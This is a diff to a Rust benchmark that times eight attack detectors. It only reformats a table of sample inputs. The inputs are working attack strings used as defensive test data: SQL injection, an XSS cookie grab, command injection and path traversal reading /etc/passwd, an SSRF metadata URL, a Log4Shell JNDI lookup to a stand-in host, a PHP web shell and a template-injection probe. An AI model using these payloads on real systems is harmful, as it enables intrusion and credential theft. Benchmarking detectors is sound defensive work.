@@ -24,14 +24,26 @@ fn all_eight(c: &mut Criterion) {
 fn per_detector(c: &mut Criterion) {
     let benign = b"calle dinamarca 14, 3b".to_vec();
     let attacks: [(DetectorKind, &[u8]); 8] = [
-        (DetectorKind::Sqli, b"1' union select null,version(),user()-- -"),
-        (DetectorKind::Xss, b"<img src=x onerror=alert(document.cookie)>"),
+        (
+            DetectorKind::Sqli,
+            b"1' union select null,version(),user()-- -",
+        ),
+        (
+            DetectorKind::Xss,
+            b"<img src=x onerror=alert(document.cookie)>",
+        ),
         (DetectorKind::Cmdi, b"127.0.0.1; cat /etc/passwd"),
         (DetectorKind::Lfi, b"../../../../etc/passwd"),
-        (DetectorKind::Ssrf, b"http://169.254.169.254/latest/meta-data/"),
+        (
+            DetectorKind::Ssrf,
+            b"http://169.254.169.254/latest/meta-data/",
+        ),
         (DetectorKind::Java, b"${${lower:j}ndi:ldap://x.example/a}"),
         (DetectorKind::Php, b"<?php system($_GET['c']); ?>"),
-        (DetectorKind::Python, b"{{''.__class__.__mro__[1].__subclasses__()}}"),
+        (
+            DetectorKind::Python,
+            b"{{''.__class__.__mro__[1].__subclasses__()}}",
+        ),
     ];
     let mut g = c.benchmark_group("detector");
     for (kind, attack) in attacks {
